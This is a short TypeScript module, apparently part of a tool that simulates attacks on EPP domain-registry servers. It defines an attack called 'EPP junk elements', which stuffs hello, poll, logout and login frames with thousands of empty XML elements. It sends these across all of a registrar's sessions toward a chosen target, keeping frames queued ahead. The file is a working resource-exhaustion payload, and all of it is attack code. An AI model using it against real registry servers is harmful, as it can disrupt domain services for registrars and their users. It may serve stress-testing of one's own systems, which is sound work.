import { envelope } from '../epp-frames.ts';
import type { Attack } from './attack.ts';
import { sendInSessions } from './epp-sessions.ts';

const AHEAD = 30;
/** As many as a frame has that is parsed at once. */
const junk = '<a/>'.repeat(7_800);

/** Small frames in all sessions of a registrar, with thousands of elements where there are few or none. */
export const eppJunkElements: Attack = {
  name: 'EPP junk elements',
  start: (target) =>
    sendInSessions(
      target,
      [
        `<epp xmlns="urn:ietf:params:xml:ns:epp-1.0"><hello>${junk}</hello></epp>`,
        envelope({ body: `<poll op="req">${junk}</poll>` }),
        envelope({ body: `<logout>${junk}</logout>` }),
        envelope({ body: `<login>${junk}</login>` }),
        envelope({ body: '<poll op="req"/>' }, [junk]),
        envelope({ body: junk }),
      ],
      AHEAD,
    ),
};
